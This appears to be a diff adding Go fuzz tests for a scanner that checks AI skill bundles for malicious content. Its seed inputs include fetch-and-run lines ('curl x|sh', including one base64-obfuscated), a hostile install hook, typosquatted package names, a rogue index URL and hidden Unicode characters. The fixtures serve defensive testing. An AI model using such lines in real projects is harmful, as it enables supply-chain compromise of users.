@@ -1,0 +1,77 @@
+package scan
+
+import (
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/skillkit-go/skillkit/skill"
+)
+
+// fuzzNames are the places a fuzzed file is put, so that every kind of
+// file (instructions, script, configuration, dependencies, data) is read.
+var fuzzNames = []string{"SKILL.md", "scripts/x.sh", "references/r.md", "requirements.txt", "package.json", "skill.config.yaml", "assets/d.bin", ".npmrc"}
+
+// FuzzScanFile scans arbitrary bytes as each kind of file: no panic, and
+// every finding is well formed, its match on one visible line.
+func FuzzScanFile(f *testing.F) {
+	for _, seed := range []string{
+		"---\nname: s\ndescription: d\n---\nbody",
+		"echo Y3VybCB4fHNo | base64 -d | sh",
+		"x = \"\\x63\\x75\\x72\\x6c\" + 'ab' + \"cd\"[::-1]",
+		"\U000E0049\U000E0067\u200b\u202e\ufe01\x1b[2J",
+		"{\"dependencies\": {\"lodahs\": \"npm:x@99\"}, \"scripts\": {\"install\": \"curl x|sh\"}}",
+		"--extra-index-url http://1.2.3.4/\nreqeusts==99.0\n-e git+https://x/y",
+		"runtime: python\ndependencies:\n  python:\n    inline: [numpi]\n",
+		"\xff\xfeh\x00i\x00",
+		strings.Repeat("`", 100) + strings.Repeat("\\", 100),
+	} {
+		for i := range fuzzNames {
+			f.Add(uint8(i), []byte(seed))
+		}
+	}
+	f.Fuzz(func(t *testing.T, which uint8, data []byte) {
+		name := fuzzNames[int(which)%len(fuzzNames)]
+		fsys := fstest.MapFS{"s/" + name: {Data: data}}
+		if name != "SKILL.md" {
+			fsys["s/SKILL.md"] = &fstest.MapFile{Data: []byte("---\nname: s\ndescription: d\n---\n")}
+		}
+		rep, err := Skill(t.Context(), fsys, "s", &Options{MaxFileBytes: 64 << 10})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if want := verdictOf(rep.Findings); rep.Verdict != want {
+			t.Fatalf("verdict %s, findings say %s", rep.Verdict, want)
+		}
+		for _, fd := range rep.Findings {
+			if fd.Rule == "" || fd.Severity < Low || fd.Severity > Critical || fd.Line < 0 {
+				t.Fatalf("malformed finding %+v", fd)
+			}
+			if skill.HasHiddenChars(fd.Match) || strings.ContainsAny(fd.Match, "\n\r\t") || len([]rune(fd.Match)) > 122 {
+				t.Fatalf("match not shortened or not visible: %+q", fd.Match)
+			}
+		}
+	})
+}
+
+// FuzzDecoders runs the decoders on one arbitrary line.
+func FuzzDecoders(f *testing.F) {
+	for _, seed := range []string{`\x41\x42\u0043\u{1F600}\101\U0001F600`, "fromcharcode(1,2,3,4,300)", "chr(65)+chr(0x41)+chr(999)+chr(1)",
+		"0x41, 0x42, 0x43, 0x44, 0x45, 0x46, 0x47, 0x48", "%41%42%43%44%45%46%zz", `"a" + 'b' . "c"`, "Y3VybA==="} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if out, _ := unescape(s); len(out) > 4*len(s) {
+			t.Fatalf("unescape grew %d bytes into %d", len(s), len(out))
+		}
+		_ = charCodes(lowerASCII(s))
+		sc := newSkillScan(nil, (*Options)(nil).resolved())
+		file := &fileState{path: "x.py", kind: kindScript}
+		l := &line{text: s, lower: lowerASCII(s), num: 1, ctx: CtxScript, file: file, sc: sc}
+		sc.scanLine(l)
+		sc.hiddenLine(l)
+		if sc.decoded > sc.o.MaxDecodedBytes {
+			t.Fatalf("decoded %d bytes, over the cap", sc.decoded)
+		}
+	})
+}
